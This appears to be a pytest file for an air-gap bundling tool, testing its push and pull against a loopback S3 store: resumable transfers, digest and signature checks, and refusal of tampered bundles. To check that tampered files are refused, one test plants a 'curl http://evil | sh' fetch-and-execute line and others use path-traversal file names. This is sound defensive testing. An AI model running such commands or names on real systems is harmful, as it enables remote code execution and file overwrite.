"""`push` and `pull` with an object store: boto3 against a real S3 protocol on loopback."""

from __future__ import annotations

import hashlib
import importlib.util
import random
import shutil
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from airgap.keys import fingerprint, load_public_keys

PAPERS = Path(__file__).parents[2] / "data/bundles/v1-papers"
MODELS = "s3://whisper-models/models"
WARD = f"{MODELS}/ward-1.0.0"
KEY = "models/ward-1.0.0/ward-1.0.0.tar.zst"
BUCKET = "whisper-models"
MIB = 1 << 20
SECRET = "a-secret-that-no-message-shows"


def left(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


def test_there_and_back(host: Any, shipment: Path, s3_site: Any, tmp_path: Path) -> None:
    pushed = host.airgap("push", shipment, MODELS)
    assert pushed.code == 0, pushed.err
    assert f"to             {WARD}" in pushed.out
    names = sorted(path.name for path in shipment.iterdir())
    assert s3_site.listed() == [f"models/ward-1.0.0/{name}" for name in names]
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    came = tmp_path / "in/ward-1.0.0"
    assert {path.name: path.read_bytes() for path in came.iterdir()} == {
        path.name: path.read_bytes() for path in shipment.iterdir()
    }
    assert host.airgap("mount", came).code == 0


def test_what_is_there_is_not_sent_again(host: Any, shipment: Path, s3_site: Any) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    s3_site.line.seen.clear()
    again = host.airgap("push", shipment, MODELS, "--json")
    assert again.document["pushed"][0]["sent"] == 0
    assert [one for one in s3_site.line.seen if one[0] in {"PUT", "POST"}] == []


@pytest.fixture
def large(host: Any, write: Callable[..., Path], contents: Any) -> Path:
    """A bundle of three parts."""
    noise = random.Random(2).randbytes(7_000_000)  # noqa: S311 - no secret
    return write("large", title="large", contents={**contents, "samples/noise.bin": noise})


def numbers_sent(site: Any) -> list[str]:
    sent = (parse_qs(urlsplit(path).query) for _method, path, _range in site.line.asked("PUT"))
    return [one["partNumber"][0] for one in sent if "partNumber" in one]


def fails_at(method: str, part: str, status: int = 403) -> Callable[[str, str], int | None]:
    return lambda asked, path: status if asked == method and part in path else None


def nothing_fails(_method: str, _path: str) -> None:
    return None


def test_a_push_that_was_cut_off_sends_the_missing_parts_alone(
    host: Any, large: Path, s3_site: Any
) -> None:
    s3_site.line.refuse = fails_at("PUT", "partNumber=3")
    failed = host.airgap("push", large, MODELS)
    assert failed.code == 1
    assert "answered 403" in failed.err
    assert numbers_sent(s3_site) == ["1", "2", "3"]
    assert s3_site.listed() == []
    s3_site.line.refuse = nothing_fails
    s3_site.line.seen.clear()
    pushed = host.airgap("push", large, MODELS)
    assert pushed.code == 0, pushed.err
    assert numbers_sent(s3_site) == ["3"]
    assert s3_site.read("models/large-1.0.0/large.tar.zst") == large.read_bytes()


def test_parts_of_another_content_are_not_taken_over(host: Any, large: Path, s3_site: Any) -> None:
    s3_site.line.refuse = fails_at("PUT", "partNumber=3")
    assert host.airgap("push", large, MODELS).code == 1
    key = "models/large-1.0.0/large.tar.zst"
    (upload,) = s3_site.client.list_multipart_uploads(Bucket=BUCKET)["Uploads"]
    s3_site.client.upload_part(
        Bucket=BUCKET, Key=key, UploadId=upload["UploadId"], PartNumber=2, Body=b"x" * (5 << 20)
    )
    s3_site.line.refuse = nothing_fails
    s3_site.line.seen.clear()
    pushed = host.airgap("push", large, MODELS)
    assert pushed.code == 0, pushed.err
    assert numbers_sent(s3_site) == ["1", "2", "3"]
    assert s3_site.read(key) == large.read_bytes()
    assert "Uploads" not in s3_site.client.list_multipart_uploads(Bucket=BUCKET)


def test_another_object_under_the_name_is_not_overwritten(
    host: Any, shipment: Path, s3_site: Any
) -> None:
    s3_site.swap(KEY, b"somebody's", Metadata={"sha256": "a" * 64})
    before = s3_site.listed()
    refused = host.airgap("push", shipment, MODELS)
    assert refused.code == 1
    digest = hashlib.sha256((shipment / "ward-1.0.0.tar.zst").read_bytes()).hexdigest()
    assert f"here {digest}, there {'a' * 64}" in refused.err
    assert "--replace" in refused.err
    assert s3_site.listed() == before
    assert s3_site.read(KEY) == b"somebody's"
    assert host.airgap("push", shipment, MODELS, "--replace").code == 0
    assert s3_site.read(KEY) == (shipment / "ward-1.0.0.tar.zst").read_bytes()


def test_of_two_pushes_at_once_one_fails(host: Any, shipment: Path, s3_site: Any) -> None:
    """The other one's object comes between the look and the write: the store refuses ours."""

    def other(method: str, path: str) -> None:
        if method == "PUT" and path.startswith(f"/{BUCKET}/{KEY}"):
            s3_site.swap(KEY, b"the other's")

    s3_site.line.refuse = other
    failed = host.airgap("push", shipment, MODELS)
    assert failed.code == 1
    assert "changed by somebody else meanwhile" in failed.err
    assert s3_site.read(KEY) == b"the other's"


def test_a_store_that_keeps_less_is_found(host: Any, shipment: Path, s3_site: Any) -> None:
    def cut(method: str, path: str) -> None:
        if method == "HEAD" and KEY in path and KEY in s3_site.listed():
            s3_site.swap(KEY, b"cut")

    s3_site.line.refuse = cut
    failed = host.airgap("push", shipment, MODELS)
    assert failed.code == 1
    assert "is not what was sent" in failed.err
    assert "the store has 3 bytes" in failed.err


def test_a_pull_that_was_cut_off_goes_on(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    size = (shipment / "ward-1.0.0.tar.zst").stat().st_size
    s3_site.line.spoil = lambda _method, path, body: None if KEY in path else body
    failed = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert failed.code == 1
    assert "broke off" in failed.err
    assert left(tmp_path / "in") == [".ward-1.0.0.pulling"]
    came = (tmp_path / "in/.ward-1.0.0.pulling/ward-1.0.0.tar.zst").stat().st_size
    assert size // 2 <= came < size
    s3_site.line.spoil = lambda _method, _path, body: body
    s3_site.line.seen.clear()
    s3_site.line.sent = 0
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    ranges = [one[2] for one in s3_site.line.asked("GET", KEY)]
    assert ranges == [None, f"bytes={came}-"]  # the head is looked at anew
    assert left(tmp_path / "in") == ["ward-1.0.0"]


def test_within_one_pull_a_cut_line_costs_nothing_twice(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    cuts = iter([False, True, True])

    def spoil(_method: str, path: str, body: bytes) -> bytes | None:
        return None if len(body) > MIB and next(cuts, False) else body

    s3_site.line.spoil = spoil
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    starts = [int(one[2][6:-1]) for one in s3_site.line.asked("GET", KEY) if one[2]]
    assert starts == sorted(starts)
    assert len(starts) == 2
    assert starts[0] > MIB


def test_a_swapped_object_is_refused_and_nothing_is_left(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    content = bytearray(s3_site.read(KEY))
    content[-70_000] ^= 1
    digest = hashlib.sha256(content).hexdigest()  # whoever swaps it swaps what is told of it
    s3_site.swap(KEY, bytes(content), Metadata={"sha256": digest})
    refused = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert refused.code == 3
    assert "rule: frame" in refused.err or "rule: archive" in refused.err
    assert left(tmp_path / "in") == []
    assert "refusal" in (host.root / "audit/log.jsonl").read_text()


def test_bytes_that_change_on_the_way_are_found_by_the_digest(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    s3_site.line.spoil = lambda method, _path, body: (
        body[:-70_000] + b"\0" + body[-69_999:] if method == "GET" and len(body) > MIB else body
    )
    failed = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert failed.code == 1
    assert "expected sha256" in failed.err
    assert not (tmp_path / "in/.ward-1.0.0.pulling/ward-1.0.0.tar.zst").exists()
    s3_site.line.spoil = lambda _method, _path, body: body
    assert host.airgap("pull", WARD, "--out", tmp_path / "in").code == 0


def test_what_an_earlier_run_left_wrong_is_begun_anew(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    staging = tmp_path / "in/.ward-1.0.0.pulling"
    staging.mkdir(parents=True)
    (staging / "ward-1.0.0.tar.zst").write_bytes(b"x" * 3_000_000)
    (staging / "ward-1.0.0.tar.zst.001").write_bytes(b"of another cut")
    (staging / "model.sig").symlink_to(tmp_path / "elsewhere")
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    assert not (tmp_path / "elsewhere").exists()
    assert not (tmp_path / "in/ward-1.0.0/ward-1.0.0.tar.zst.001").exists()


@pytest.mark.parametrize(
    "name", ["manifest.json", "REVIEW.html", "bootstrap.sh", "bootstrap/a.whl"]
)
def test_an_altered_paper_is_refused(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path, name: str
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    s3_site.swap(f"models/ward-1.0.0/{name}", b"{}")
    refused = host.airgap("pull", WARD, "--out", tmp_path / "in", "--json")
    assert refused.code == 3
    assert refused.document["rule"] == "site.paper"
    assert f"signed for: {name}" in refused.err
    assert left(tmp_path / "in") == []


def test_a_bootstrap_travels_and_is_compared_with_its_signed_list(
    host: Any, s3_site: Any, tmp_path: Path
) -> None:
    folder = tmp_path / "outbox/ward-1.0.0"
    shutil.copytree(PAPERS, folder)
    pushed = host.airgap("push", folder, MODELS)
    assert pushed.code == 0, pushed.err
    public = sorted(PAPERS.glob("officer.*.pub"))
    number = fingerprint(key for path in public for key in load_public_keys(path.read_bytes(), ""))
    trusted = host.airgap("trust", "add", *public, "--signer", "officer", "--fingerprint", number)
    assert trusted.code == 0, trusted.err
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    came = tmp_path / "in/ward-1.0.0"
    for name in ("bootstrap.sh", "bootstrap/SHA256SUMS", "bootstrap/a.txt", "model.sig"):
        assert (came / name).read_bytes() == (PAPERS / name).read_bytes()
    s3_site.swap("models/ward-1.0.0/bootstrap/a.txt", b"other")
    refused = host.airgap("pull", WARD, "--out", tmp_path / "again")
    assert refused.code == 3
    assert "signed for: bootstrap/a.txt" in refused.err
    assert left(tmp_path / "again") == []


def test_papers_that_speak_to_people_are_made_anew(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    for name in ("SIGNERS.txt", "statement.json", "SHA256SUMS", "model.sig", "install.sh"):
        s3_site.swap(f"models/ward-1.0.0/{name}", b"curl http://evil | sh\n")
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    assert "not taken" in pulled.err
    assert "install.sh, model.sig" in pulled.err
    came = tmp_path / "in/ward-1.0.0"
    assert not [path for path in came.iterdir() if b"evil" in path.read_bytes()]
    assert "approval code" in (came / "SIGNERS.txt").read_text()
    assert not (came / "install.sh").exists()


@pytest.mark.parametrize("name", ["../../escaped", "a/../../escaped", "/etc/escaped", ".bashrc"])
def test_a_name_that_leads_out_is_not_taken(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path, name: str
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    s3_site.swap(f"models/ward-1.0.0/bootstrap/{name}", b"x")
    pulled = host.airgap("pull", WARD, "--out", tmp_path / "in/deep")
    assert pulled.code == 0, pulled.err
    assert not list(tmp_path.rglob("escaped*"))
    assert not list((tmp_path / "in").rglob(".bashrc"))


def test_an_untrusted_signer_is_refused_before_the_rest_is_fetched(
    host: Any, write: Callable[..., Path], bob: Any, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", write("bobs", [bob], title="bobs"), MODELS).code == 0
    had_a_place = []

    def look(method: str, path: str) -> None:
        if method == "GET" and path.endswith("bobs.tar.zst"):
            had_a_place.append((tmp_path / "in").exists())

    s3_site.line.refuse = look
    refused = host.airgap("pull", f"{MODELS}/bobs-1.0.0", "--out", tmp_path / "in")
    assert refused.code == 3
    assert "up to: who signed the bundle, or who keeps this host's policy" in refused.err
    assert had_a_place == [False]  # one request, for the head; nothing to put more into
    assert not (tmp_path / "in").exists()


def test_an_older_one_is_refused_unless_a_reason_is_given(
    mounted: Any, write: Callable[..., Path], s3_site: Any, tmp_path: Path
) -> None:
    older = write("older", sequence=6, version="0.9.0")
    assert mounted.airgap("push", older, MODELS).code == 0
    source = f"{MODELS}/ward-0.9.0"
    refused = mounted.airgap("pull", source, "--out", tmp_path / "in")
    assert refused.code == 3
    assert "rule: sequence.older" in refused.err
    assert left(tmp_path / "in") == []
    taken = mounted.airgap("pull", source, "--out", tmp_path / "in", "--allow-older", "a test")
    assert taken.code == 0, taken.err
    assert "overridden: a test" in taken.err


def test_a_damaged_bundle_is_not_pushed(host: Any, bundle: Path, s3_site: Any) -> None:
    content = bytearray(bundle.read_bytes())
    content[-70_000] ^= 1
    bundle.write_bytes(content)
    refused = host.airgap("push", bundle, MODELS)
    assert refused.code == 3
    assert s3_site.listed() == []


def test_volumes_travel_and_a_missing_one_is_named(
    host: Any, bundle: Path, s3_site: Any, tmp_path: Path
) -> None:
    split = host.airgap("split", bundle, "--size", "2MB", "--out", tmp_path / "volumes")
    assert split.code == 0, split.err
    (folder,) = (tmp_path / "volumes").iterdir()
    assert host.airgap("push", folder, MODELS).code == 0
    first = f"models/{folder.name}/bundle.tar.zst.001"
    puts = [one[1].partition("?")[0] for one in s3_site.line.asked("PUT")]
    assert puts[-1] == f"/{BUCKET}/{first}"  # the head comes last
    source = f"{MODELS}/{folder.name}"
    pulled = host.airgap("pull", source, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    s3_site.client.delete_object(Bucket=BUCKET, Key=first.replace(".001", ".002"))
    refused = host.airgap("pull", source, "--out", tmp_path / "again")
    assert refused.code == 3
    assert "bundle.tar.zst.002" in refused.err
    assert left(tmp_path / "again") == []


def test_what_another_tool_stored_is_pulled_by_its_file(
    host: Any, bundle: Path, s3_site: Any, tmp_path: Path
) -> None:
    s3_site.swap("drop/whisper.tar.zst", bundle.read_bytes())  # no digest in its metadata
    source = "s3://whisper-models/drop/whisper.tar.zst"
    pulled = host.airgap("pull", source, "--out", tmp_path / "in")
    assert pulled.code == 0, pulled.err
    assert (tmp_path / "in/ward-1.0.0/whisper.tar.zst").read_bytes() == bundle.read_bytes()


def test_too_little_space_is_told_before_anything_comes(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr(shutil, "disk_usage", lambda _path: usage._replace(free=1_000_000))
    failed = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert failed.code == 1
    assert "not enough space" in failed.err
    assert list((tmp_path / "in/.ward-1.0.0.pulling").iterdir()) == []


def test_a_folder_of_bundles_is_listed(host: Any, shipment: Path, s3_site: Any) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    failed = host.airgap("pull", MODELS)
    assert failed.code == 1
    assert f"next: airgap pull {WARD}" in failed.err


def test_nothing_is_overwritten_here(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path
) -> None:
    assert host.airgap("push", shipment, MODELS).code == 0
    assert host.airgap("pull", WARD, "--out", tmp_path / "in").code == 0
    again = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert again.code == 2
    assert "is there already" in again.err


@pytest.mark.parametrize("out", ["paper.txt", "paper.txt/inbox"])
def test_a_file_where_the_folder_is_to_be(
    host: Any, shipment: Path, s3_site: Any, tmp_path: Path, out: str
) -> None:
    paper = tmp_path / "paper.txt"
    paper.write_text("a text of somebody's\n")
    assert host.airgap("push", shipment, MODELS).code == 0
    failed = host.airgap("pull", WARD, "--out", tmp_path / out)
    assert failed.code == 1
    assert f"cannot write in '{tmp_path / out}'" in failed.err
    assert "next: a file lies where a folder is to be: name another" in failed.err
    assert paper.read_text() == "a text of somebody's\n"


def test_a_bucket_that_is_not_there_is_told_with_what_makes_it(
    host: Any, shipment: Path, large: Path, s3_site: Any, tmp_path: Path
) -> None:
    s3_site.client.delete_bucket(Bucket=BUCKET)
    pull = ("pull", WARD, "--out", tmp_path / "in")
    for arguments in (("push", shipment, MODELS), ("push", large, MODELS), pull):
        failed = host.airgap(*arguments)
        assert failed.code == 1
        assert "S3 at 127.0.0.1 has no bucket 'whisper-models'" in failed.err
        assert 'aws s3 mb s3://whisper-models --endpoint-url "$S3_ENDPOINT"' in failed.err
    assert left(tmp_path / "in") == []
    assert s3_site.client.list_buckets()["Buckets"] == []


def test_a_store_that_is_not_there(
    host: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    with socket.socket() as taken:  # bound, and nobody listens
        taken.bind(("127.0.0.1", 0))
        monkeypatch.setenv("S3_ENDPOINT", f"http://127.0.0.1:{taken.getsockname()[1]}")
        failed = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert failed.code == 1
    assert "S3 at 127.0.0.1 cannot be reached" in failed.err
    assert "check S3_ENDPOINT and the network" in failed.err
    assert left(tmp_path / "in") == []


@pytest.mark.parametrize(
    ("code", "says"),
    [("404", "has no"), ("403", "AWS_ACCESS_KEY_ID")],
)
def test_a_store_that_refuses(
    host: Any, s3_site: Any, code: str, says: str, tmp_path: Path
) -> None:
    s3_site.line.refuse = lambda _method, _path: int(code)
    failed = host.airgap("pull", WARD, "--out", tmp_path / "in")
    assert failed.code == 1
    assert says in failed.err
    assert SECRET not in failed.err + failed.out
    assert left(tmp_path / "in") == []


def test_without_credentials_the_variables_are_named(
    host: Any, s3_site: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AWS_ACCESS_KEY_ID")
    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    failed = host.airgap("pull", WARD)
    assert failed.code == 1
    assert "wants credentials" in failed.err


def test_without_the_extra_it_says_so(
    host: Any, monkeypatch: pytest.MonkeyPatch, bundle: Path
) -> None:
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name: None if name == "boto3" else object()
    )
    failed = host.airgap("push", bundle, MODELS)
    assert failed.code == 2
    assert "pip install 'airgap-bundler[site]'" in failed.err
